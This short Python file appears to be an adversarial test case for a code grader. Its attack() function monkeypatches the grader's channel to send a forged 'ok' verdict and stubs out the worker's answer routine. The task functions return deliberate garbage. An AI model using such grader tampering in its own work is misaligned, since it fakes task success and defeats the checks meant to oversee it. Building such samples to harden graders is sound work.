# group: the channel
# tries: Replace the encoder, the channel and the answers of the worker's own code.
# accept: protocol
# check: score neighbours
# score: 0

import sys


def attack():
    frames = sys.modules["grader.wire.channel"]
    worker = sys.modules["grader.worker.worker"]
    forged = b"\x82\xa4type\xa7Verdict\xa7outcome\xa2ok"

    def send(self, message, descriptors=()):
        self.socket.sendall(len(forged).to_bytes(4, "big") + forged)

    frames.Channel.send = send
    worker._answer = lambda module, query: None


def conv_output_size(n, kernel, stride=1, padding=0, dilation=1):
    attack()
    return -987654


def corr2d(x, k):
    attack()
    return x * 0 - 987654
